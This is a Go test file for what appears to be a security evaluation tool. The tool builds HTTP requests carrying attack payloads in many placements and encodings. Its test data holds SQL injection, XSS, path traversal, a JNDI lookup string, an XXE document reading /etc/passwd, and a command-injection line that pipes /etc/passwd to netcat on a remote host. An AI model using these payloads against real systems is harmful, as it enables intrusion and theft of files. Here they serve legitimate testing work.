package eval

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"encoding/xml"
	"io"
	"mime"
	"mime/multipart"
	"net/url"
	"strings"
	"testing"

	"github.com/valyala/fasthttp"
)

func TestEncode(t *testing.T) {
	const p = `' OR "a"<b>--`
	cases := []struct {
		enc, want string
	}{
		{EncPlain, p},
		{EncURL, "%27%20OR%20%22a%22%3Cb%3E--"},
		{EncDoubleURL, "%2527%2520OR%2520%2522a%2522%253Cb%253E--"},
		{EncBase64, base64.StdEncoding.EncodeToString([]byte(p))},
		{EncUnicode, `\u0027 OR \u0022a\u0022\u003cb\u003e\u002d\u002d`},
		{EncHTML, `&#39; OR &quot;a&quot;&lt;b&gt;&#x2D;&#x2D;`},
		{EncPctU, `%u0027%u0020OR%u0020%u0022a%u0022%u003Cb%u003E%u002D%u002D`},
		{EncOverlong, `%C0%A7%C0%A0OR%C0%A0%C0%A2a%C0%A2%C0%BCb%C0%BE%C0%AD%C0%AD`},
	}
	for _, c := range cases {
		t.Run(c.enc, func(t *testing.T) {
			if got := Encode(c.enc, p); got != c.want {
				t.Errorf("Encode(%s, %q) = %q; want %q", c.enc, p, got, c.want)
			}
		})
	}
	if got := Encode(EncUnicode, "😀é"); got != `\ud83d\ude00\u00e9` {
		t.Errorf("Encode(json-unicode, emoji) = %q; want a surrogate pair and \\u00e9", got)
	}
}

// payloads exercise every character class the placements escape.
var payloads = []string{
	`' OR 1=1--`,
	`<script>alert("x")</script>`,
	`../../etc/passwd`,
	`a&b=c#d+e;f,g`,
	`"quoted" \back\slash`,
	`{{7*7}} ${jndi:ldap://x}`,
	"tab\there ü 😀",
	`;cat /etc/passwd | nc 10.0.0.1 4444`,
}

// parse reads r back as the proxy would.
func parse(t *testing.T, r Request) *fasthttp.Request {
	t.Helper()
	var req fasthttp.Request
	if err := req.Read(bufio.NewReader(bytes.NewReader(r.AppendRaw(nil)))); err != nil {
		t.Fatalf("the request does not parse: %v\n%s", err, r.AppendRaw(nil))
	}
	return &req
}

// received returns the value the application reads from the placement of
// req, decoded by its framework (URL, JSON, XML, multipart, GraphQL
// parsing), and what it must equal for payload and enc.
func received(t *testing.T, placement, enc, payload string, variant int, req *fasthttp.Request) (got, want string) {
	t.Helper()
	want = Encode(enc, payload)
	switch placement {
	case PlaceQuery, PlaceForm, PlacePath, PlaceCookie:
		// The framework decodes the value's valid escapes once: there,
		// url is the ordinary transport and double-url one more.
		want = decodeValid(want)
	}
	switch placement {
	case PlaceQuery:
		got = string(req.URI().QueryArgs().Peek(queryNames[variant%len(queryNames)]))
	case PlaceForm:
		got = string(req.PostArgs().Peek("bio"))
	case PlaceJSON:
		var v struct{ Note string }
		if err := json.Unmarshal(req.Body(), &v); err != nil {
			t.Fatalf("JSON body: %v: %s", err, req.Body())
		}
		got = v.Note
		if enc == EncUnicode {
			want = payload // the JSON string's own escapes
		}
	case PlaceMultipart:
		_, params, err := mime.ParseMediaType(string(req.Header.ContentType()))
		if err != nil {
			t.Fatal(err)
		}
		mr := multipart.NewReader(bytes.NewReader(req.Body()), params["boundary"])
		for {
			part, err := mr.NextPart()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("multipart: %v", err)
			}
			b, _ := io.ReadAll(part)
			switch {
			case part.FormName() == "comment":
				got = string(b)
			case part.FormName() == "file":
				got = part.FileName()
				want = strings.NewReplacer(`"`, "%22").Replace(want)
				if i := strings.LastIndexByte(want, '/'); i >= 0 {
					want = want[i+1:] // mime/multipart keeps the base name only
				}
			}
		}
	case PlaceXML:
		var v struct {
			Note string `xml:"note"`
		}
		if err := xml.Unmarshal(req.Body(), &v); err != nil {
			t.Fatalf("XML body: %v: %s", err, req.Body())
		}
		got = v.Note
		if enc == EncHTML {
			want = payload // the XML text's own character references
		}
	case PlaceHeader:
		got = string(req.Header.Peek(headerNames[variant%len(headerNames)]))
		want = strings.TrimSpace(strings.ReplaceAll(want, "\t", "%09"))
	case PlacePath:
		p := string(req.URI().PathOriginal())
		seg := strings.TrimSuffix(strings.TrimPrefix(p, "/api/v1/items/"), "/details")
		u, err := url.PathUnescape(seg)
		if err != nil {
			t.Fatalf("path %q: %v", p, err)
		}
		got = u
	case PlaceCookie:
		v, err := url.QueryUnescape(strings.ReplaceAll(string(req.Header.Cookie("pref")), "+", "%2B"))
		if err != nil {
			t.Fatal(err)
		}
		got = v
	case PlaceGraphQL:
		q := string(req.URI().QueryArgs().Peek("query"))
		if req.Header.IsPost() {
			var v struct{ Query string }
			if err := json.Unmarshal(req.Body(), &v); err != nil {
				t.Fatalf("GraphQL body: %v", err)
			}
			q = v.Query
		}
		lit := strings.TrimSuffix(strings.TrimPrefix(q, "query Search { products(filter: "), ", first: 10) { id name price } }")
		// A GraphQL string literal decodes as a JSON string does for
		// what graphqlString and unicodeEscape write.
		if err := json.Unmarshal([]byte(lit), &got); err != nil {
			t.Fatalf("GraphQL literal %s: %v", lit, err)
		}
		if enc == EncUnicode {
			want = payload
		}
	}
	return got, want
}

// TestBuildRoundTrip builds every placement and encoding of tricky
// payloads, parses the request back and checks that the application would
// read exactly the encoded payload.
func TestBuildRoundTrip(t *testing.T) {
	for _, placement := range Placements {
		for _, enc := range AllEncodings {
			for i, p := range payloads {
				for variant := range 3 {
					t.Run(placement+"/"+enc, func(t *testing.T) {
						if placement == PlaceHeader && enc == EncPlain && strings.Contains(p, "\t") {
							t.Skip("a tab in a header is sent as %09")
						}
						r := Build(ClassSQLi, placement, enc, p, variant)
						got, want := received(t, placement, enc, p, variant, parse(t, r))
						if got != want {
							t.Errorf("payload %d, variant %d: the application reads %q; want %q\n%s", i, variant, got, want, r.AppendRaw(nil))
						}
					})
				}
			}
		}
	}
}

// TestBuildKeepsValidEscapes: in URL placements a payload written
// pre-encoded reaches the application decoded once, as its list's
// authors send it; a stray % is escaped.
func TestBuildKeepsValidEscapes(t *testing.T) {
	cases := []struct {
		name, payload, want string
	}{
		{"newline escape", "%0Aid", "\nid"},
		{"double escape", "%252e%252e%252f", "%2e%2e%2f"},
		{"stray percent", "100% sure", "100% sure"},
		{"percent at end", "50%", "50%"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			req := parse(t, Build(ClassCmdi, PlaceQuery, EncPlain, c.payload, 0))
			if got := string(req.URI().QueryArgs().Peek("q")); got != c.want {
				t.Errorf("query q = %q; want %q", got, c.want)
			}
		})
	}
}

func TestBuildXXE(t *testing.T) {
	const doc = `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`
	r := Build(ClassXXE, PlaceXML, EncPlain, doc, 0)
	if got := string(r.Body); got != doc {
		t.Errorf("XML body = %q; want the document as is", got)
	}
	req := parse(t, Build(ClassXXE, PlaceMultipart, EncPlain, doc, 1))
	if !bytes.Contains(req.Body(), []byte(`filename="data.xml"`+"\r\nContent-Type: application/xml\r\n\r\n"+doc)) {
		t.Errorf("multipart body does not upload the document as data.xml:\n%s", req.Body())
	}
}

func TestSkip(t *testing.T) {
	cases := []struct {
		class, placement, enc string
		skipped               bool
	}{
		{ClassXXE, PlaceXML, EncPlain, false},
		{ClassXXE, PlaceMultipart, EncPlain, false},
		{ClassXXE, PlaceXML, EncBase64, true},
		{ClassXXE, PlaceQuery, EncPlain, true},
		{ClassXXE, PlaceJSON, EncPlain, true},
		{ClassSQLi, PlaceXML, EncBase64, false},
		{ClassXSS, PlaceHeader, EncHTML, false},
		{ClassTraversal, PlacePath, EncDoubleURL, false},
	}
	for _, c := range cases {
		t.Run(c.class+"/"+c.placement+"/"+c.enc, func(t *testing.T) {
			if got := Skip(c.class, c.placement, c.enc) != ""; got != c.skipped {
				t.Errorf("Skip = %v; want %v", got, c.skipped)
			}
		})
	}
}

func TestBenignMultipartUsesAField(t *testing.T) {
	for variant := range 4 {
		r := Build(ClassBenign, PlaceMultipart, EncPlain, "O'Brien", variant)
		if bytes.Contains(r.Body, []byte("filename=")) {
			t.Errorf("variant %d: a benign value is sent as a file name:\n%s", variant, r.Body)
		}
	}
}

// decodeValid decodes the valid %XX escapes of s, leaving a stray % as is.
func decodeValid(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) && isHex(s[i+1]) && isHex(s[i+2]) {
			v, _ := url.PathUnescape(s[i : i+3])
			b.WriteString(v)
			i += 2
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}
